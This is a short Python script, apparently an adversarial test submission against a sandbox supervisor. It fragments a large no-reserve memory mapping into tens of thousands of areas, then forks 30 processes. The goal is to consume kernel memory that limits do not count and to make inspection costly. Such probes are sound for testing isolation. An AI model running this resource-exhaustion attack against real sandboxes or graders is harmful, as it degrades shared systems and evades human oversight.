# ruff: noqa
"""
goal = "keep what the system notes of areas of memory that hold nothing, and the supervisor busy with them"
invariant = "no memory is taken that no limit counts, and a look at a submission costs little"
held_by = ["supervisor"]
"""

# %% last
import ctypes
import os
import time

PROCESSES, AREAS, PAGE = 30, 60_000, 4096
PRIVATE_ANONYMOUS_NORESERVE = 0x4022
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
start = libc.mmap(None, AREAS * PAGE, 0, PRIVATE_ANONYMOUS_NORESERVE, -1, 0)
for number in range(1, AREAS, 2):
    libc.mprotect(start + number * PAGE, PAGE, 1)
for _ in range(PROCESSES):
    if os.fork() == 0:
        time.sleep(15)
        os._exit(0)
time.sleep(10)
print("FOU" + "ND")
